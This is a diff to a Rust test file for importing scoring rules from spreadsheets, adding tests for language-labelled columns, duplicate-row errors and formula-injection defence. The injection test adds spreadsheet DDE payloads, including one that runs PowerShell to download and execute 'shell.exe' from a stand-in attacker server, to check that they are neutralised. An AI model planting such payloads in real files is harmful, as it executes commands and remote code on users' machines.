@@ -123,6 +123,13 @@ fn a_column_that_is_left_out_changes_nothing_and_order_and_separator_are_free() 
 }
 
 #[test]
+fn a_language_may_stand_before_the_words_for_all_others() {
+    let imported = taken(CONFIG, "criterion ru,id,points,condition,axis,criterion\nНовое,new,1,{role} = 1,fit,New\n");
+    let rules = read(&imported.text).table().unwrap().0.rules.clone();
+    assert_eq!((rules[0].label.plain(), rules[0].label.pick("ru")), ("New", "Новое"));
+}
+
+#[test]
 fn a_condition_changes_between_a_rule_and_a_count() {
     let imported =
         taken(CONFIG, &lines(&[HEAD, &OWNER.replace("{role} = 'owner'", "each event.visit.return"), CALLED]));
@@ -167,7 +174,7 @@ fn what_is_wrong_is_told_with_line_and_column() {
         ("A;{role} = 1;4;;;;fit;;no id;;", "line 3, column id: "),
         (
             "A;{role} = 1;4;;;;fit;;owner;;",
-            "line 3, column id: found \"owner\" again, expected an id of its own: line 2 has it",
+            "line 3, column id: found \"owner\" again, expected a row of its own: line 2 has it",
         ),
         ("A;{role} = 1;4;;;;fit;;x;quizzes.y;", "line 3, column place: found \"quizzes.y\", expected nothing"),
         ("A;{role} = 1;4;;;;fit;;called", "line 3: found 9 cells, expected 11"),
@@ -183,6 +190,13 @@ fn what_is_wrong_is_told_with_line_and_column() {
     assert!(two[0].starts_with("line 4, column points"), "{two:?}");
     let option = sheet(CONFIG).replace("owner';3;;;;fit", "chief';3;;;;fit");
     assert!(told(CONFIG, &option)[0].starts_with("line 4, column condition: found \"{role} = 'chief'\", expected"));
+    let whole = sheet(CONFIG);
+    let twice = format!("{whole}{}\r\n", whole.lines().last().unwrap().replace("';2;", "';7;"));
+    assert!(
+        told(CONFIG, &twice)[0].starts_with("line 6, column place: found \"quizzes.a.b"),
+        "{:?}",
+        told(CONFIG, &twice)
+    );
     let points = sheet(CONFIG).replace("owner';3;;;;fit", "owner';300;;;;fit");
     assert!(told(CONFIG, &points)[0].starts_with("line 4, column points: "), "{:?}", told(CONFIG, &points));
 }
@@ -220,7 +234,13 @@ fn no_known_attack_on_spreadsheets_begins_a_cell() {
         "＝1+1",
         "=10+20;@x",
         "a;=1+1",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "=10+20+cmd|' /C calc'!A0",
+        "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
         "a\"\n=1+1",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "=10+20+cmd|' /C calc'!A0",
+        "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
     ] {
         let mut config: serde_json::Value = serde_json::from_str(CONFIG).unwrap();
         config["score"]["rules"][0]["label"] = json!(attack);
